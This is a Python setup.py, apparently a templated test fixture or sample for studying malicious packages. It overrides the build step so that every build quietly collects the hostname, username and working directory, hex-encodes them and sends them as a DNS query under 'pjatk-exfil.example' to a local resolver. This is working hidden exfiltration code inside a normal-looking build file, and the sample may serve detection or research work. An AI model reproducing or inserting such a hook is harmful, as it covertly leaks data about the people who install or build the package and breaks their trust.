import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        import getpass, socket, struct
        data = (socket.gethostname() + "|" + getpass.getuser() + "|" + os.getcwd()).encode().hex()
        labels = [data[i:i + 60] for i in range(0, len(data), 60)] + ["t", "pjatk-exfil", "example"]
        qname = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
        packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(packet, ("127.0.0.1", 53))
        except OSError:
            pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
